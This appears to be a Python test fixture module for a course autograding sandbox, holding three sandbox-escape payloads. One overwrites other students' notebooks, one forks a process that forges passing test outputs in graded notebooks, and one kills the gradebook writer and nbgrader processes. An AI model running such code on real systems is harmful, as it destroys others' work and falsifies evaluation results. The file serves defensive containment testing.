"""Payloads of the routes block of the catalog: code that would act outside the sandbox if any route ran it
there (issue 10, finding 1). Each must cost its submission only its own mistake, and nobody else anything."""

# Other students' submissions and autograded notebooks, wherever a course might be: overwritten with junk, so
# an honest student reached would be graded blank, or their grades would change.
REACH_SUBMISSIONS = '''import glob as _glob
_hits = []
for _pattern in ("../../../submitted/*/custom_training_basics/*.ipynb", "../../../autograded/*/*/*.ipynb",
                 "/tmp/*/*/submitted/*/*/*.ipynb",
                 "/tmp/pytest-of-*/*/*/submitted/*/*/*.ipynb", "/tmp/coursekit-chunk-*/submitted/*/*/*.ipynb",
                 "/proc/1/root/tmp/pytest-of-*/*/*/submitted/*/*/*.ipynb"):
    for _path in _glob.glob(_pattern):
        try:
            with open(_path, "w") as _file:
                _file.write("{}")
            _hits.append(_path)
        except OSError:
            pass'''

# A forger left running after the kernel: for a while, it rewrites every worker execution waiting for the
# gradebook writer (the replay folder) so that each test cell shows a pass.
FORGE_REPLAY = '''import os as _os
if _os.fork() == 0:
    import glob, json, time
    _end = time.time() + 60
    while time.time() < _end:
        for _path in glob.glob("/tmp/coursekit-grade-*/replay/*/autograded/*/*/*.ipynb") + glob.glob(
                "/proc/1/root/tmp/coursekit-grade-*/replay/*/autograded/*/*/*.ipynb"):
            try:
                _nb = json.load(open(_path))
                for _cell in _nb["cells"]:
                    if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_"):
                        _cell["outputs"] = [{"output_type": "stream", "name": "stdout",
                                             "text": "Hidden tests passed:\\n  \u2713 forged\\n"}]
                json.dump(_nb, open(_path, "w"))
            except Exception:
                pass
        time.sleep(0.2)
    _os._exit(0)'''

# The gradebook writer and the workers' nbgrader, found by name among all processes and killed.
KILL_WRITER = '''import os as _os, signal as _signal
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _file:
            _cmdline = _file.read()
        # Not itself: a kernel is a fork of the warm parent, whose command line names coursekit.
        if (b"coursekit" in _cmdline or b"nbgrader" in _cmdline) and int(_pid) != _os.getpid():
            _os.kill(int(_pid), _signal.SIGKILL)
    except OSError:
        pass'''
